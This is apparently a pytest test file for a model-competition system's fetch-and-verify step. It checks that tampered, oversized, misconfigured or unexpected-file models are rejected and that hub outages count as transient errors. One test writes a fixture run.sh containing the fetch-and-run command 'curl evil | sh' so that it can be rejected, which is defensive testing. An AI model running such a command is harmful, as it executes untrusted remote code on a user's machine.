"""fetch_and_verify: whose fault a failure is. The miner's becomes ``ModelRejected`` (recorded);
the store's or this machine's becomes ``ModelUnavailable`` (transient, never recorded)."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import huggingface_hub.constants
import pytest

from crucible.competitions import specs_dir
from crucible.models.build import ModelShape, build_config, build_model
from crucible.models.fetch import fetch_and_verify
from crucible.models.io import save_model_dir
from crucible.protocol.commitment import ModelCommitment
from crucible.protocol.competition import CompetitionSpec, load_competitions
from crucible.protocol.errors import ModelRejected, ModelUnavailable, StoreError
from crucible.store.base import ModelStore
from crucible.store.hashing import content_hash
from crucible.store.hf import HuggingFaceStore
from crucible.store.local import LocalStore
from tests.conftest import keypair
from tests.store.fakehub import SHA, FakeHub

SPEC = load_competitions(specs_dir())["tiny"]
HOTKEY = keypair("fetch-miner").ss58_address


def _spec(**model: object) -> dict[str, CompetitionSpec]:
    return {SPEC.id: SPEC.model_copy(update={"model": SPEC.model.model_copy(update=model)})}


def _commitment(ref: str, revision: str, digest: str) -> str:
    return str(ModelCommitment.for_model(SPEC.key, ref, revision, digest, HOTKEY))


@pytest.fixture
def model_dir(tmp_path: Path) -> Path:
    shape = ModelShape(layers=1, hidden=32, heads=2, ffn=64)
    return save_model_dir(build_model(build_config(shape)), tmp_path / "model")


@pytest.fixture
def store(tmp_path: Path) -> LocalStore:
    return LocalStore(tmp_path / "store")


def _fetch(raw: str, store: ModelStore, cache: Path, **kwargs: object) -> object:
    competitions = kwargs.pop("competitions", {SPEC.id: SPEC})
    return fetch_and_verify(
        raw, HOTKEY, competitions, lambda ref: store, cache, backoff_s=0.0, **kwargs
    )


def test_a_published_model_is_fetched_verified_and_loaded(
    model_dir: Path, store: LocalStore, tmp_path: Path
) -> None:
    stored = store.put(model_dir)
    fetched = _fetch(_commitment("local", stored.revision, stored.content_hash), store, tmp_path)
    assert fetched.content_hash == content_hash(model_dir)
    assert fetched.loaded.report.parameters == sum(
        p.numel() for p in fetched.loaded.model.parameters()
    )


def test_a_revision_missing_from_the_store_is_rejected(
    model_dir: Path, store: LocalStore, tmp_path: Path
) -> None:
    digest = content_hash(model_dir)  # never put
    with pytest.raises(ModelRejected, match="is not in the store") as err:
        _fetch(_commitment("local", digest, digest), store, tmp_path / "cache")
    assert err.value.reason == "not_found"


def test_a_tampered_object_is_rejected(model_dir: Path, store: LocalStore, tmp_path: Path) -> None:
    stored = store.put(model_dir)
    (store.objects / stored.revision / "config.json").write_text("{}")
    with pytest.raises(ModelRejected, match="the store is corrupt") as err:
        _fetch(_commitment("local", stored.revision, stored.content_hash), store, tmp_path / "c")
    assert err.value.reason == "hash_mismatch"


def test_a_model_over_the_byte_cap_is_rejected_before_it_is_copied(
    model_dir: Path, store: LocalStore, tmp_path: Path
) -> None:
    stored = store.put(model_dir)
    raw = _commitment("local", stored.revision, stored.content_hash)
    with pytest.raises(ModelRejected, match="at most 1000 allowed") as err:
        _fetch(raw, store, tmp_path / "cache", competitions=_spec(max_bytes=1000))
    assert err.value.reason == "too_large" and not (tmp_path / "cache").exists()


def test_an_unexpected_file_is_rejected_before_it_is_copied(
    model_dir: Path, store: LocalStore, tmp_path: Path
) -> None:
    (model_dir / "run.sh").write_text("curl evil | sh")
    stored = store.put(model_dir)  # the local store keeps any non-pickle file
    with pytest.raises(ModelRejected, match="run.sh is not part of a model") as err:
        _fetch(_commitment("local", stored.revision, stored.content_hash), store, tmp_path / "c")
    assert err.value.reason == "unexpected_file" and not (tmp_path / "c").exists()


def test_a_config_that_would_break_evaluation_is_rejected(
    model_dir: Path, store: LocalStore, tmp_path: Path
) -> None:
    config = json.loads((model_dir / "config.json").read_text())
    (model_dir / "config.json").write_text(json.dumps(config | {"return_dict": False}))
    stored = store.put(model_dir)
    with pytest.raises(ModelRejected, match="return_dict = False") as err:
        _fetch(_commitment("local", stored.revision, stored.content_hash), store, tmp_path / "c")
    assert err.value.reason == "bad_config"


def test_a_local_disk_error_is_not_the_miners_fault(
    model_dir: Path, store: LocalStore, tmp_path: Path
) -> None:
    stored = store.put(model_dir)
    cache = tmp_path / "cache"
    cache.write_text("a file where the cache directory should be")
    with pytest.raises(ModelUnavailable, match="after 2 tries") as err:
        _fetch(_commitment("local", stored.revision, stored.content_hash), store, cache, retries=1)
    assert err.value.code == "store_unavailable" and err.value.transient
    assert not isinstance(err.value, ModelRejected)


class CountingStore:
    """A real store, counting how often ``get`` is called (to see the retries)."""

    def __init__(self, inner: ModelStore) -> None:
        self.inner, self.gets = inner, 0

    def put(self, model_dir: Path) -> object:
        return self.inner.put(model_dir)

    def exists(self, ref: str, revision: str) -> bool:
        return self.inner.exists(ref, revision)

    def get(self, ref: str, revision: str, dest_dir: Path, **kwargs: object) -> Path:
        self.gets += 1
        return self.inner.get(ref, revision, dest_dir, **kwargs)


def test_the_hub_disabled_here_is_not_the_miners_fault_and_not_retried(
    model_dir: Path, tmp_path: Path
) -> None:
    store = CountingStore(HuggingFaceStore("owner/model"))  # HF_HUB_OFFLINE=1 in these tests
    raw = _commitment("owner/model", SHA, content_hash(model_dir))
    with pytest.raises(ModelUnavailable, match="HF_HUB_OFFLINE") as err:
        _fetch(raw, store, tmp_path / "cache", retries=3)
    assert err.value.transient and store.gets == 1


@pytest.fixture
def online(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_HUB_OFFLINE", "0")
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", False)


@pytest.fixture
def hubs() -> Iterator[list[FakeHub]]:
    started: list[FakeHub] = []
    yield started
    for hub in started:
        hub.close()


@pytest.mark.usefixtures("online")
def test_a_hub_outage_is_not_the_miners_fault(
    model_dir: Path, tmp_path: Path, hubs: list[FakeHub]
) -> None:
    hubs.append(FakeHub([503] * 10))
    store = CountingStore(HuggingFaceStore("owner/model", endpoint=hubs[0].url, retries=0))
    raw = _commitment("owner/model", SHA, content_hash(model_dir))
    with pytest.raises(ModelUnavailable, match="after 2 tries") as err:
        _fetch(raw, store, tmp_path / "cache", retries=1)
    assert err.value.code == "store_unavailable" and store.gets == 2 and len(hubs[0].paths) == 2


@pytest.mark.usefixtures("online")
def test_a_model_on_the_hub_is_fetched_and_verified(
    model_dir: Path, tmp_path: Path, hubs: list[FakeHub]
) -> None:
    hubs.append(FakeHub.serving(model_dir))
    store = HuggingFaceStore("owner/model", endpoint=hubs[0].url, retries=0)
    raw = _commitment("owner/model", SHA, content_hash(model_dir))
    fetched = _fetch(raw, store, tmp_path / "cache")
    assert fetched.content_hash == content_hash(model_dir)
    assert sorted(hubs[0].downloads) == ["config.json", "model.safetensors"]


@pytest.mark.usefixtures("online")
def test_an_oversized_or_unexpected_model_on_the_hub_is_rejected_undownloaded(
    model_dir: Path, tmp_path: Path, hubs: list[FakeHub]
) -> None:
    raw = _commitment("owner/model", SHA, content_hash(model_dir))
    shutil.copy(model_dir / "config.json", model_dir / "README.md")
    hubs.append(FakeHub.serving(model_dir))
    store = HuggingFaceStore("owner/model", endpoint=hubs[0].url, retries=0)
    with pytest.raises(ModelRejected, match="README.md is not part of a model") as err:
        _fetch(raw, store, tmp_path / "cache")
    assert err.value.reason == "unexpected_file"
    (model_dir / "README.md").unlink()
    hubs.append(FakeHub.serving(model_dir, declared={"model.safetensors": 41_000_000}))
    store = HuggingFaceStore("owner/model", endpoint=hubs[1].url, retries=0)
    with pytest.raises(ModelRejected, match="nothing was downloaded") as err:
        _fetch(raw, store, tmp_path / "cache")
    assert err.value.reason == "too_large"
    assert hubs[0].downloads == hubs[1].downloads == []


def test_permanent_and_transient_store_codes_do_not_overlap() -> None:
    from crucible.models.fetch import PERMANENT_STORE_ERRORS, SETTLED_STORE_ERRORS

    assert not PERMANENT_STORE_ERRORS & SETTLED_STORE_ERRORS
    assert ModelUnavailable.code not in PERMANENT_STORE_ERRORS
    assert issubclass(ModelUnavailable, StoreError) and ModelUnavailable.transient


def test_a_hub_model_on_a_validator_with_the_hub_off_is_not_rejected(
    model_dir: Path, store: LocalStore, tmp_path: Path
) -> None:
    from crucible.store.resolve import model_store_resolver

    raw = _commitment("owner/model", SHA, content_hash(model_dir))
    resolve = model_store_resolver(store, offline=True)
    with pytest.raises(ModelUnavailable, match="offline mode is on") as err:
        fetch_and_verify(raw, HOTKEY, {SPEC.id: SPEC}, resolve, tmp_path / "cache")
    assert err.value.transient and not isinstance(err.value, ModelRejected)
